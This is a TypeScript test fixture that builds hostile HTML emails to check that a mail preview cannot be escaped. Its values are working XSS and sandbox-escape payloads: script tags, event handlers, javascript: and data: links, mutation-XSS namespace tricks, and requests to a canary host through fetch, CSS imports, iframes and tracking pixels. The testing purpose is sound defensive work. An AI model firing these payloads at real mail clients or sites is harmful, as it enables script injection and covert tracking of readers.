/** Mails that try to get out of the preview. `canary` is an address that nobody may ask for. */
export function hostileMails(canary: string): Readonly<Record<string, string>> {
  const own = "top.document.title='owned';parent.document.title='owned'";
  return {
    script: `<script>${own};fetch('${canary}/script')</script><script src="${canary}/script.js"></script>`,
    onerror: `<img src=x onerror="${own}"><body onload="${own}"><details open ontoggle="${own}">x</details>`,
    "javascript: link": `<a id=go href="javascript:${own}">Go</a>`,
    "data: link": `<a id=go href="data:text/html,<script>${own}</script>">Go</a>`,
    "link to the top": `<a id=go href="#x" target=_top onclick="${own}">Go</a>`,
    "meta refresh": `<meta http-equiv="refresh" content="0;url=${canary}/refresh"><p>x</p>`,
    base: `<base href="${canary}/" target="_top"><img src="base.png"><p>x</p>`,
    svg: `<svg onload="${own}"><script>${own}</script><image href="${canary}/svg.png"/><use href="${canary}/use.svg#x"/></svg>`,
    form: `<form action="${canary}/form" target=_top><input name=a value=b><button id=go>Go</button></form>`,
    "css import": `<style>@import url("${canary}/import.css");@font-face{font-family:x;src:url(${canary}/font)}p{font-family:x;background:url(${canary}/bg.png)}</style><p>x</p>`,
    "style attribute": `<p style="background:url(${canary}/style.png);position:fixed;inset:0">x</p>`,
    "link element": `<link rel=stylesheet href="${canary}/link.css"><link rel=prefetch href="${canary}/prefetch"><link rel=dns-prefetch href="${canary}"><link rel=preconnect href="${canary}">`,
    iframe: `<iframe src="${canary}/frame"></iframe><iframe srcdoc="<script>${own}</script>"></iframe>`,
    frameset: `<frameset><frame src="${canary}/frameset"></frameset>`,
    "frame without scripts": `<noscript><iframe src="${canary}/noscript"></iframe></noscript>`,
    "frame of our page": `<iframe src="/"></iframe><iframe src="/api/v1/mails"></iframe>`,
    object: `<object data="${canary}/object"></object><embed src="${canary}/embed"><applet code=x></applet>`,
    media: `<video src="${canary}/video" autoplay></video><audio src="${canary}/audio" autoplay></audio>`,
    "remote image": `<img src="${canary}/pixel.png"><img srcset="${canary}/set.png 1x"><picture><source srcset="${canary}/p.png"><img></picture>`,
    "end of the frame": `</iframe></div><script>${own}</script><h1>out</h1><img src=x onerror="${own}">`,
    "end of attributes": `"><script>${own}</script>'><img src=x onerror="${own}">`,
    "half a comment": `<!--><script>${own}</script>--><!-- --!><img src=x onerror="${own}">`,
    "another namespace": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${own}&gt;">`,
    template: `<template shadowrootmode=open><script>${own}</script></template><noscript><p title="</noscript><img src=x onerror=${own}>">`,
  };
}
